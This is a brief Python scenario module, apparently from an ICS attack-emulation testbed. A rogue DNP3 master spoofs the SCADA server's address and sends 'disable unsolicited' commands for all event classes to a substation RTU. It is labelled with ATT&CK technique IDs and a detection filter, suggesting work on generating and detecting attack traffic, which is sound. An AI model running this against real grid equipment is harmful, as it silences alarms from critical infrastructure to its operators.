"""The outstation is told to keep its events to itself."""

from __future__ import annotations

import opendnp3 as dnp3

from ..clients.scada_dnp3 import master
from ..node import Node

TITLE = "DNP3 disable unsolicited messages for all classes by a new master"
TECHNIQUES = ("T0878", "T1691.002")
ORIGIN = "ews"
ENTITIES = ("ews", "rtu-substation")
EVIDENCE = "dnp3.al.func == 21 && ip.src == 10.20.3.20"

ROGUE_ADDRESS = 1  # pretends to be the SCADA server's link address
EVENT_CLASSES = (dnp3.PointClass.Class1, dnp3.PointClass.Class2, dnp3.PointClass.Class3)


def run(node: Node) -> None:
    """Function 21 twice, a little apart."""
    manager, station = master(node, ROGUE_ADDRESS, reconnect=20)
    station.Enable()
    node.pause(1.2)
    headers = [dnp3.Header.From(event_class) for event_class in EVENT_CLASSES]
    for _ in range(2):
        station.PerformFunction("disable", dnp3.FunctionCode.DISABLE_UNSOLICITED, headers)
        node.pause(0.8)
    manager.Shutdown()
